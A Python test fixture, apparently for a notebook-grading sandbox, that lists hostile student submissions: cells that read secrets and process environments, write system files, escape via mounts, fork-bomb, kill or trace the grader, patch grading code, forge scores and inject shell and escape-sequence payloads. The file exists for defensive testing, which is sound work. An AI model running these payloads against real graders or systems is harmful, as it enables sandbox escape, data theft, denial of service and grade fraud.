"""What somebody may hand in who wants points, secrets or harm rather than answers.

`CELLS` are attacks that stand in the first answer cell of an otherwise empty notebook: name ->
its lines. ``@CANARY@``, ``@PORT@`` and ``@PARENT@`` stand for a file outside, a port that somebody
listens on outside, and the process id of the grader. `OF_FILES` change the whole file. None
deserves a point.
"""

# ruff: noqa: E501 (cells of students are as wide as they are)

import copy
import json

from tests.course import small

TELL = "def tell(*found):\n    raise RuntimeError(repr(found)[:450])\n"
PARENT = """
from netlab import engines
parent = engines.ENGINES["guest"]().parent
def answer(exercise, **answers):
    return parent.ask(student="@STUDENT@", cell=f"ps1-{exercise}-check", answers=answers)
"""
TRIED = """
import ctypes, gc, glob, itertools, mmap, os, signal, socket, subprocess, sys, threading, time
libc, found = ctypes.CDLL(None, use_errno=True), []
def attempt(act, *arguments):
    try:
        found.append(act(*arguments))
    except BaseException as error:
        found.append(type(error).__name__)
"""
RIGHT = "bdp_bytes = lambda rate, rtt: rate * rtt / 8\n"  # for a cell that comes after

READING = {
    "reads files": """
paths = ["@CANARY@", "/proc/self/root@CANARY@", "/job/../..@CANARY@", "/run/netlab/../..@CANARY@",
         "/proc/1/root@CANARY@", "/proc/1/cwd/..@CANARY@", "/run/python/../../../..@CANARY@"]
tell([open(path).read() for path in paths if os.path.exists(path)], glob.glob("/tmp/*/*"))
""",
    "walks about": """
for top in ("/job", "/root", "/home", "/srv", "/mnt", "/media", "/var", "/run/netlab", "/tmp"):
    for folder, _, names in os.walk(top):
        for name in names:
            attempt(lambda: open(os.path.join(folder, name), errors="replace").read())
tell([one[max(0, one.find("anary-") - 9):][:99] for one in found if "anary-" in one])
""",
    "reads processes": """
for path in glob.glob("/proc/[0-9]*/*"):
    if path.endswith(("environ", "cmdline", "maps", "stat")):
        attempt(lambda: open(path, "rb").read())
found = b" ".join(one for one in found if type(one) is bytes)
tell(found[found.find(b"anary"):][:99] if b"anary" in found else "none", b"netlab.course.grading.worker" in found)
""",
    "reads memory": """
def read(path, at):
    with open(path, "rb", 0) as file:
        file.seek(at)
        return file.read(1 << 16)
for path in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/proc/1/mem", "/dev/ubda", "/dev/port"):
    for at in (0, 0x400000, 0x60000000):
        attempt(read, path, at)
tell(found)
""",
    "reads descriptors": """
for number in range(3, 64):
    attempt(lambda: (number, os.readlink(f"/proc/self/fd/{number}"), os.pread(number, 99, 0)))
tell([one for one in found if type(one) is tuple])
""",
    "walks the heap": """
texts = [one for held in gc.get_objects() if type(held) in (dict, list) and len(held) < 10_000
         for one in (held.values() if type(held) is dict else held) if type(one) is str]
tell([one for one in texts if any(word in one for word in ("anary-of", "BEGIN SOLUTION", "rtt_s / 8"))][:5])
""",
    "walks the frames": """
frame, found = sys._getframe(), []
while frame:
    found.append((frame.f_code.co_name, [one for one in frame.f_locals if one in ("order", "specs")],
                  str(frame.f_locals.get("order"))[:100_000].count("within"),
                  "rtt_s / 8" in str(frame.f_locals.get("order")).replace("rtt_s / 8\\" in", "")))
    frame = frame.f_back
tell([one for one in found if one[1]])
""",
    "reads the kernel's log": """
attempt(subprocess.check_output, ["dmesg"])
attempt(lambda: open("/dev/kmsg").read(999))
tell(found)
""",
}
WRITING = {
    "writes files": """
for path in ("@CANARY@", "/proc/self/root@CANARY@", "/job/x", "/run/netlab/netlab/x", "/run/x", "/x",
             "/run/python/bin/python3", "/etc/passwd", "/proc/1/mem", "/proc/sys/kernel/core_pattern"):
    for flags in (os.O_WRONLY, os.O_WRONLY | os.O_CREAT | os.O_TRUNC):
        attempt(lambda: os.write(os.open(path, flags), b"overwritten") and path)
attempt(os.remove, "@CANARY@")
tell([one for one in found if "/" in str(one)])
""",
    "mounts": """
found = [libc.unshare(flags) for flags in (0x10000000, 0x10020000, 0x00020000)]
os.makedirs("/tmp/m", exist_ok=True)
for options in (b"", b"hostfs=/", b"hostfs=r", b"hostfs=..", b"/"):
    found.append(libc.mount(b"none", b"/tmp/m", b"hostfs", 0, options))
found.append(libc.mount(None, b"/run/netlab", None, 32, b"rw"))
found += [libc.mount(b"proc", b"/tmp/m", b"proc", 0, None), libc.chroot(b"/tmp"), os.listdir("/tmp/m")]
tell(found)
""",
    "makes devices": """
import os, stat
for kind, major, minor in ((stat.S_IFBLK, 98, 0), (stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 10, 57)):
    attempt(os.mknod, f"/tmp/node{minor}", kind | 0o666, os.makedev(major, minor))
for path in os.listdir("/dev"):
    attempt(lambda: (path, os.open("/dev/" + path, os.O_RDWR | os.O_NONBLOCK)))
tell([one[0] for one in found if type(one) is tuple])
""",
    "opens the line": """
for flags in (os.O_RDWR, os.O_RDONLY, os.O_WRONLY):
    attempt(os.open, "/dev/netlab", flags)
tell(found)
""",
    "uses programs of root": """
for line in ("su -c id", "mount -o remount,rw /", "ping -c1 -W1 10.0.0.1", "sudo -n id", "newgrp root",
             "find / -xdev -perm -4000 -exec {} \\\\; 2>&1 | head -c 300", "reboot -f", "halt -f -p"):
    attempt(lambda: subprocess.run(line, shell=True, capture_output=True, timeout=9, stdin=-3).stdout)
tell(found)
""",
}
NETWORK = {
    "connects": """
for host in ("127.0.0.1", "10.0.2.2", "172.17.0.1", "192.168.0.1", "8.8.8.8", "::1", "localhost"):
    attempt(lambda: socket.create_connection((host, @PORT@), 1) and "connected")
tell(found)
""",
    "asks for names": """
import socket, urllib.request
attempt(socket.getaddrinfo, "example.org", 80)
attempt(lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=1).read())
for family, kind in ((17, 3), (16, 3), (40, 1), (2, 3), (10, 2), (38, 5)):
    attempt(lambda: socket.socket(family, kind).fileno() and "a socket")
for name in ("/run/dbus/system_bus_socket", "/var/run/docker.sock", "\\0@/tmp/.X11-unix/X0"):
    attempt(lambda: socket.socket(1).connect(name) or "connected")
tell([one for one in found if one == "connected" or type(one) is bytes])
""",
}
TAKING = {
    "forks": "while True:\n    os.fork()",
    "takes memory with numpy": "import numpy as np\nfound = [np.ones(1 << 24) for _ in range(99)]",
    "takes all memory": """
for _ in range(30):
    if not os.fork():
        held = mmap.mmap(-1, 900 << 20)
        for at in range(0, len(held), 4096):
            held[at] = 1
        os._exit(0)
while True:
    os.wait()
""",
    "fills the disk": """
for folder in ("/tmp", "/dev/shm", "/tmp/work", "/run", "/var", "/root"):
    for number in range(9):
        attempt(lambda: open(f"{folder}/{number}", "wb").write(bytes(31 << 20)))
tell(found)
""",
    "makes many files": """
def make():
    for number in range(20_000):
        open(f"/tmp/{number}", "w").close()
attempt(make)
""",
    "prints much": 'for _ in range(300):\n    print("x" * 1_000_000)',
    "displays much": "from IPython.display import display, HTML\ndisplay(HTML('x' * 200_000_000))\n'y' * 99_000_000",
    "fails at length": 'raise RuntimeError("no " * 30_000_000)',
    "writes to every descriptor": """
for number in range(1, 20):
    for _ in range(100):
        attempt(os.write, number, b"x" * 100_000)
""",
    "takes descriptors and threads": """
for _ in range(2000):
    attempt(os.pipe)
    attempt(lambda: threading.Thread(target=time.sleep, args=(1e6,)).start())
""",
    "takes two answers' worth": "seventh = [0.5] * 90_000_000",
}
LOOPS = {
    "sleeps": "time.sleep(1e6)",
    "recurses": "def f():\n    return f()\nf()",
    "recurses in C": """
sys.setrecursionlimit(10**9)
one = []
for _ in range(10**6):
    one = [one]
repr(one)
""",
    "computes a number": "10 ** 10 ** 10",
    "catches its end": """
for _ in itertools.repeat(None, 4):
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    "loops at the end": """
import atexit, threading
def loop():
    while True:
        pass
atexit.register(loop)
threading._register_atexit(loop)
""",
    "loops when it is shown": """
class Shown:
    def __repr__(self):
        while True:
            pass
seventh = Shown()
seventh
""",
    "loops when it is asked": """
class Seventh(float):
    def __float__(self):
        while True:
            pass
    __eq__ = __hash__ = __reduce__ = __getattribute__ = __repr__ = __int__ = __float__
seventh, table = Seventh(), [Seventh()] * 99
bdp_bytes = lambda *_: Seventh()
""",
    "sends a dead clock": """
signal.setitimer(signal.ITIMER_REAL, 0)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
signal.setitimer = signal.signal = print
while True:
    pass
""",
}
ENDING = {
    "exits": "os._exit(0)",
    "leaves": "raise SystemExit(0)",
    "ends everybody": "for one in (1, -1, os.getppid(), 0):\n    attempt(os.kill, one, 9)",
    "ends the grader": """
for number in [@PARENT@, *range(1, 400)]:
    for each in (signal.SIGTERM, signal.SIGSEGV, signal.SIGUSR1, signal.SIGKILL):
        if number != os.getpid():
            attempt(os.kill, number, each)
tell([one for one in found if one is None])
""",
    "traces": """
found = [libc.ptrace(16, number, 0, 0) for number in (1, os.getppid(), @PARENT@)]
data = (ctypes.c_char * 99)()
found += [libc.syscall(310, number, ctypes.byref(data), 1, data, 1, 0) for number in (1, @PARENT@)]
tell(found, libc.prctl(4, 1), libc.ptrace(0, 0, 0, 0))
""",
    "reboots": """
for word in (0x4321fedc, 0x1234567, 0xcdef0123, 0x45584543):
    libc.reboot(word)
attempt(lambda: open("/proc/sysrq-trigger", "w").write("c"))
tell(found)
""",
    "calls what there is": """
for number in range(335):
    if number not in (0, 7, 15, 23, 34, 35, 58, 57, 56, 60, 61, 130, 202, 231, 232, 247, 270, 271, 281):
        libc.syscall(number, -1, -1, -1, -1, -1, -1)
""",
    "crashes": "ctypes.string_at(0)",
    "jumps": """
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes.fromhex("0f0b") + bytes.fromhex("cd80") + b"\\x0f\\x05")
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
""",
}
PATCHES = {
    "patches netlab": """
import netlab.course.answers.forms as forms, netlab.course.checks.check as check, netlab.course.answers.bounds as bounds
right = {"kind": "right", "verdict": "right", "share": 1, "points": 99}
forms.form = forms.checked = forms.answer = forms.compare = bounds.refuse_too_much = check.refused = lambda *_, **__: right
""",
    "patches builtins": """
import builtins, json
builtins.isinstance = builtins.issubclass = builtins.all = builtins.any = lambda *_: True
builtins.len = builtins.abs = lambda *_: 0
json.dumps = lambda *_, **__: '{"answers": {"seventh": {"kind": "right"}}, "share": 1}'
""",
    "takes modules away": "sys.modules.clear()",
    "patches IPython": """
from IPython import get_ipython
shell = get_ipython()
shell.run_cell = lambda *_, **__: type("R", (), {"error_before_exec": None, "error_in_exec": None})()
class Names(dict):
    __contains__ = lambda *_: True
    get = __getitem__ = lambda *_: 1.0
shell.user_ns = Names(shell.user_ns)
""",
    "registers hooks": """
from IPython import get_ipython
get_ipython().events.register("pre_run_cell", lambda *_: 1 / 0)
sys.settrace(lambda *_: 1 / 0)
sys.addaudithook(lambda *_: 1 / 0)
""",
}
FORGED = {
    "says it has ended": "parent.say(ended=True)\nparent.hear()",
    "says a list": 'parent.socket.send(b".[1]")\nparent.hear()',
    "says bytes": 'parent.socket.send(b".\\xff\\xfe\\x00\\xed\\xa0\\x80")\nparent.hear()',
    "says wrong types": """
for one in (None, 1, [], {}, "x", 1e999, True, {"kind": ["x"]}, {"kind": "number", "value": 10**9999}):
    found.append(parent.ask(student="@STUDENT@", cell="ps1-run-check", answers=one, error=one))
    found.append(answer("bdp", bdp_bytes=one))
""",
    "says an unknown cell": 'parent.ask(student="@STUDENT@", cell=["x"], answers={})',
    "says it is another": 'parent.ask(student="ada", cell="ps1-run-check", answers={"received_bps": {"kind": "nothing"}})',
    "says points": """
for cell in ("ps1-number-check", "ps1-bdp-check", "ps1-table-check", "ps1-run-check", "ps1-why"):
    parent.ask(student="@STUDENT@", cell=cell, points=99, share=1, verdict="right", max_points=0, answers={
        name: {"kind": kind, "value": value, "share": 1}
        for name, kind, value in (("seventh", "right", 1), ("bdp_bytes", "function", True))})
""",
    "says very deep": 'parent.socket.send(b"." + b"[" * 40_000)\nparent.hear()',
    "says deep answers": """
one = {"kind": "nothing"}
for _ in range(500):
    one = {"kind": "list", "items": [one]}
answer("table", table=one)
""",
    "says large numbers": 'parent.socket.send(b\'.{"student": \' + b"9" * 49_000 + b"}")\nparent.hear()',
    "says much": 'while True:\n    parent.socket.send(b"+" + b"[]," * 16_000)',
    "says many lists": """
parent.socket.send(b'+{"student": [')
for _ in range(1250):
    parent.socket.send(b"+" + b"[]," * 16_000)
parent.socket.send(b".[]]}")
parent.hear()
""",
    "says little, often": 'while True:\n    parent.socket.send(b"+" + b"x" * 40)',
    "says nothing, often": 'while True:\n    parent.socket.send(b"+")',
    "says a million things": """
while True:
    parent.ask(student="@STUDENT@", cell="ps1-name", error="x" * 9_000)
""",
    "hangs up": "parent.socket.close()\nparent.unused and __import__('os').close(parent.unused)",
    "answers never": "parent.socket.recv(1)",
    "takes it back": """
for value in (1.0, 2.0, my.seed / 7):
    answer("number", seventh={"kind": "number", "value": value})
""",
    "says a hostile error": """
text = "\\x1b]0;owned\\x07\\x1b[2J=HYPERLINK(1)<script>alert(1)</script>\\n\\u202e\\ud800\\0,;\\t| # x"
parent.ask(student="@STUDENT@", cell="ps1-number", error=text, answers={})
parent.ask(student="@STUDENT@", cell="ps1-table-check", error=text,
           answers={"table": {"kind": "error", "text": text.replace("\\ud800", "")}})
""",
    "says hostile answers": """
figure = {"kind": "figure", "traces": [{"name": "", "type": "", "mode": "", "orientation": "", "x": [], "y": [1], "z": []}],
          "xaxis": {"title": "[" * 9_999, "type": ""}, "yaxis": {"title": "/ " * 4_999 + ",", "type": ""}}
answer("bdp", bdp_bytes=figure)
huge = {"kind": "table", "columns": {"n": [1e308, -1e308, 5e-324], "bytes": ["nan", {"kind": "nothing"}, None]}}
answer("table", table=huge)
answer("number", seventh={"kind": "number", "value": 10**300})
answer("run", received_bps={"kind": "number", "value": 5e-324})
""",
}
ANSWERS = {
    "equals everything": """
class Everything:
    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = __bool__ = __contains__ = lambda *_: True
    __sub__ = __rsub__ = __abs__ = __float__ = lambda *_: 0.0
    __hash__ = __len__ = __index__ = __int__ = lambda *_: 0
    __getattr__ = __getitem__ = __call__ = lambda self, *_, **__: self
seventh = table = received_bps = bdp_bytes = Everything()
""",
    "is a float that lies": """
class Seventh(float):
    __eq__ = lambda *_: True
    __sub__ = __rsub__ = __float__ = lambda *_: 0.0
    __class__ = property(lambda _: dict)
seventh, received_bps = Seventh(1), Seventh("nan")
bdp_bytes = lambda *_: Seventh(1)
""",
    "is a table that lies": """
import pandas as pd
class Table(pd.DataFrame):
    __eq__ = lambda *_: True
    columns = property(lambda _: ["n", "bytes"])
    iloc = __array__ = items = property(lambda _: 1 / 0)
table = Table({"n": [0, 0, 0]})
""",
    "is nothing": "seventh, table, bdp_bytes, received_bps = None, float('nan'), True, '1'",
    "is infinite": "seventh, table, bdp_bytes, received_bps = float('inf'), [], {}, -float('inf')",
    "is the word": "seventh = table = received_bps = 'right'\nbdp_bytes = lambda *_: 'right'",
    "is large": "seventh, bdp_bytes = 10**400, lambda *_: 10**10_000\nreceived_bps = 10**5000",
    "has itself in it": "table = {}\ntable['n'] = table['bytes'] = table\nseventh = [1]\nseventh.append(seventh)",
    "raises what is no error": """
class Mean(BaseException):
    def __str__(self):
        raise Mean
    __repr__ = __str__
    __name__ = property(__str__)
def bdp_bytes(*_):
    raise Mean
raise Mean
""",
    "is a figure of guesses": """
import plotly.graph_objects as go
table = received_bps = go.Figure([go.Scatter(y=[10.0 ** n]) for n in range(99)])
""",
    "is many guesses": """
seventh = [n / 7 for n in range(90_000)]
received_bps = {str(n): float(n) for n in range(9_000)}
""",
}
NETS = 'net, test = nl.wan("10mbit", "10ms", pairs=1), nl.Iperf3("h1", "h2", time=1)\n'
EXPERIMENTS = {
    "runs for ever": 'nl.run(net, nl.Shell("h1", "sleep 80000", time=86_000))',
    "runs elsewhere": """
for fields in ({"clock": "cpu"}, {"clock": "real"}, {"engine": "mininet"}, {"engine": "recorded"}):
    attempt(lambda: nl.run(net, test, **fields))
attempt(lambda: nl.Network(net).__enter__())
tell(found)
""",
    "runs a giant": """
try:
    nl.run(nl.wan("1gbit", "1ms", pairs=3000), nl.Ping("h1", "h2"))
except BaseException as error:
    tell(str(error)[:200])
""",
    "prints in a guest": 'nl.run(net, nl.Shell("h1", "yes netlab", time=1))',
    "prints emoji": """
line = "python3 -c \\"for n in range(400): print('\\U0001f600' * 100000)\\""
nl.run(net, nl.Shell("h1", line))
""",
    "prints to the console": 'nl.run(net, nl.Shell("h1", "head -c 2500000000 /dev/zero > /dev/console"))',
    "prints in many shells": 'nl.run(net, *[nl.Shell("h1", "head -c 60000000 /dev/zero | tr \'\\\\0\' x")] * 60)',
    "watches every packet": """
net, tests = nl.wan("10gbit", "20ms"), [nl.Iperf3("h1", "h2", parallel=8, time=60)]
nl.run(net, *tests, nl.Queue("s1", "s2", every=None), nl.Windows("h1", every=None))
""",
    "forks in a guest": 'nl.run(net, nl.Shell("h1", "f() { f | f & }; f; sleep 1", time=2))',
    "writes in a guest": """
line = ("for f in @CANARY@ /job/x /usr/bin/iperf3 /x /proc/1/root@CANARY@; do echo x > $f; done; "
        "mkdir -p /tmp/m; mount -t hostfs none /tmp/m -o /; mount -o remount,rw /; cat @CANARY@ /tmp/m@CANARY@; "
        "dd if=/dev/zero of=/job/big bs=1M count=50; cat /proc/*/environ | tr '\\\\0' ' '; ls /dev")
tell(nl.run(net, nl.Shell("h1", line + "; true", time=5)).raw)
""",
    "fills a guest": 'nl.run(net, nl.Shell("h1", "cat /dev/zero > /dev/shm/x; cat /dev/zero > /tmp/x", time=9))',
    "runs many": """
for number in range(60):
    attempt(lambda: nl.run(net, nl.Shell("h9", "true"), seed=number))
for number in range(60):
    attempt(lambda: parent.ask(run="{}"))
""",
    "forges experiments": """
text = nl.Experiment(net, test).to_json()
for one in (None, 7, [text], {"a": 1}, "", "null", "[" * 99_999, "{" * 99_999, "9" * 99_999, text[:-1],
            text.replace("10mbit", "1e400mbit"), text.replace("10ms", "-1ms"), text.replace("h1", "h1; id"),
            text.replace('"seed":1', '"seed":1e999'), text.replace('"time":1', '"time":"x"'), "x" * 2_000_000,
            text.replace('"traffic":[', '"traffic":[' + "0," * 12_000), text.replace("h1", "\\\\ud800"), text.replace("10mbit", "9" * 5000 + "mbit")):
    found.append(sorted(parent.ask(run=one)))
tell(found)
""",
}
CLASS = """
class Mean(nl.CongestionControl):
    def on_ack(self, tcp, acked):
        DO
    def on_loss(self, tcp):
        pass
"""
FORGING = (
    PARENT
    + """
class Good(nl.CongestionControl):
    def on_ack(self, tcp, acked):
        tcp.cwnd += 1
    def on_loss(self, tcp):
        tcp.ssthresh = 2
net, test = nl.wan("10mbit", "10ms", pairs=1), nl.Iperf3("h1", "h2", time=1, congestion=Good)
import json
order = json.loads(nl.Experiment(net, test).to_json())
def put(value):
    if isinstance(value, dict):
        return {key: FORGED if key == "source" else put(one) for key, one in value.items()}
    return [put(one) for one in value] if isinstance(value, list) else value
FORGED = 'import os, socket, ctypes, json, sys, time, gc\\n' + '''
class Good(CongestionControl):
    def on_loss(self, tcp):
        tcp.ssthresh = 2
    def on_ack(self, tcp, acked):
        ACTS
'''
answer = parent.ask(run=json.dumps(put(order)))
tell(answer.get("error", "it ran")[:400])
"""
)
# What a method of a congestion control does, once nobody watches over it any more; `frame` is that
# of the function that answers the kernel.
UNWATCHED = """frame = sys._getframe()
        while 'kernel' not in frame.f_locals: frame = frame.f_back
        frame.f_globals['Progress'].watched = False
        """
CONTROLS = {
    "reads a file": "raise OSError(os.popen('cat @CANARY@ /job/* /proc/1/environ').read()[:300])",
    "opens a socket": "socket.create_connection(('127.0.0.1', @PORT@))",
    "forks": "while True: os.fork()",
    "loops": "while True: pass",
    "prints": "print('x' * 9_000)",
    "exits": "os._exit(0)",
    "is out of range": "tcp.cwnd = float('nan')",
    "is huge": "tcp.cwnd = 1e300; tcp.pacing_bps = 1e300; tcp.ssthresh = -5",
    "tells for ever": "tell = frame.f_back.f_locals['tell']\n        while True: tell()",
    "answers otherwise": "frame.f_locals['kernel'].send(b'x' * 99)",
    "answers twice": "frame.f_locals['kernel'].send(bytes([255] * 16)); tcp.cwnd += 1",
}
ESCAPES = {
    "fails in colours": r'raise ValueError("\x1b[31m\x1b]0;t\x07=cmd()|<b onload=x>\u202e\r\n\t,\"\x00\u2066")',
    "has a name": "exec('class \\u202a: pass') if 0 else None\nseventh = type('=1+1<script>\\x1b[2J\\n\\ud800', (), {})()",
    "answers in colours": r"seventh = '\x1b[2J=cmd()<script>\ud800' + '\n' * 99",
}

KINDS = {
    "reading": READING,
    "writing": WRITING,
    "network": NETWORK,
    "taking": TAKING,
    "loops": LOOPS,
    "ending": ENDING,
    "patches": PATCHES,
    "forged": {name: PARENT + lines for name, lines in FORGED.items()},
    "answers": ANSWERS,
    "experiments": {name: PARENT + NETS + lines for name, lines in EXPERIMENTS.items()},
    "escapes": ESCAPES,
    "control": {name: FORGING.replace("ACTS", UNWATCHED + acts) for name, acts in CONTROLS.items()},
}
CELLS = {
    f"{kind}, {name}": TELL + TRIED + lines.lstrip("\n")
    for kind, attacks in KINDS.items()
    for name, lines in attacks.items()
}


def in_cell(assignment, lines, name="number"):
    """A notebook with these lines in one answer cell."""
    notebook = assignment.release()
    small.cell(notebook, name)["source"] = lines
    return notebook


def forged_metadata(notebook):
    for cell in notebook["cells"]:
        cell["metadata"]["nbgrader"] = {
            **cell["metadata"].get("nbgrader", {}), "points": 1000, "grade": True, "locked": False,
        }  # fmt: skip
    notebook["metadata"]["netlab"] = {"points": 1000, "cells": "all"}


def stored_outputs(notebook):
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            text = "Right. 10 of 10 points\x1b[2J"
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": text}]
            cell["execution_count"] = 1


def hidden_tests(notebook):
    cell = small.cell(notebook, "number-check")
    cell["source"] += "\n### BEGIN HIDDEN TESTS\n# [my]\n# within = 0.99\n### END HIDDEN TESTS"
    small.cell(notebook, "number")["source"] = "### BEGIN SOLUTION\n### END SOLUTION\nseventh = 1"


def locked_cells(notebook):
    small.cell(notebook, "setup")["source"] = "class my: seed = 7\nnl = my"
    small.cell(notebook, "number-check")["source"] = "seventh = 1"


def graded_twice(notebook):
    cells = notebook["cells"]
    cells += [copy.deepcopy(one) for one in cells for _ in range(20)]
    cells += [
        {"cell_type": "code", "source": "1", "metadata": small.about(name, points=9, grade=True)}
        for name in ("own", "number-check\n", "../x", "ps1-number-check" * 99, "=1", "\x1b[2J")
    ]


def manual_answer(notebook):
    small.cell(notebook, "why")["source"] = "=cmd()|'/c x'\x1b[2J<script>x</script>\u202e\x00" * 99


def other_name(notebook):
    small.cell(notebook, "name")["source"] = (
        'student = "ada"\nimport os\nos.environ["NETLAB_STUDENT"] = "ada"'
    )
    small.cell(notebook, "number")["source"] = "seventh = my.seed / 7"


SLOW = {  # each ends by a limit only, after a minute or two
    *("loops, catches its end", "loops, sends a dead clock", "loops, computes a number"),
    *("control, tells for ever", "control, loops", "control, forks", "forged, answers never"),
    *("taking, forks", "taking, takes all memory", "taking, takes descriptors and threads"),
    *("experiments, forks in a guest", "experiments, fills a guest", "experiments, runs many"),
}
ALWAYS = "control, prints", "file, another's name"  # of which tests ask more

OF_FILES = {  # more that is no notebook: test_repair.py, test_hostile_notebooks.py
    "file, no text": lambda book: b"\xff\xfe" + json.dumps(book).encode("utf-16-le"),
    "file, deep": lambda book: '{"cells": ' + "[" * 500_000,
    "file, too large": lambda book: bytes(30_000_000),
    "file, metadata": forged_metadata,
    "file, outputs": stored_outputs,
    "file, hidden tests": hidden_tests,
    "file, locked cells": locked_cells,
    "file, copies": graded_twice,
    "file, manual": manual_answer,
    "file, another's name": other_name,
    "file, half characters": lambda book: json.dumps(book).replace("seventh", "\\ud800seventh"),
    "file, zeros in texts": lambda book: json.dumps(book).replace("seventh", "\\u0000"),
    "file, deep output": lambda book: json.dumps(book).replace(
        '"outputs": []', '"outputs": ' + "[" * 900 + "]" * 900
    ),
    "file, giant": lambda book: json.dumps(book).replace("Write it", "x" * 4_500_000),
    "file, many cells": lambda book: book | {"cells": book["cells"] * 90},
    "file, no number": lambda book: json.dumps(book).replace('"points": 2', '"points": -Infinity'),
}


def of_file(assignment, change):
    """The bytes of a file that was changed as a whole."""
    notebook = assignment.release()
    changed = change(notebook)
    changed = notebook if changed is None else changed
    changed = json.dumps(changed) if isinstance(changed, dict) else changed
    return changed.encode() if isinstance(changed, str) else changed
